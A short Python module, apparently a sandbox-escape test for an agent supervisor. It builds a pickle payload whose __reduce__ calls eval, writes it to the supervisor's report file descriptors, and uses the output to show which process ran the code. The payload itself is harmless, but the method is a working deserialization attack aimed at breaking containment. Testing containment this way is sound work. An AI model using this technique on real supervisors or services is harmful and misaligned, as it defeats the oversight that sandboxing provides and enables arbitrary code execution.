"""Have the supervisor unpickle what runs code in it: the reason that it then gives says which process ran it."""

import os
import pickle
import struct
import time

WHEN = "import"
ALONE = "reports"
EXPECT = "."


class Payload:
    def __reduce__(self):
        return eval, ("'ESCAPED: process %d ran it' % __import__('os').getpid()",)


async def attack(agent, message, ctx, targets):
    data = pickle.dumps(Payload())
    for number in reports():
        with _contextlib.suppress(OSError):
            os.write(number, struct.pack("!i", len(data)) + data + b"\n" + data + b"\n")
    time.sleep(3_600)
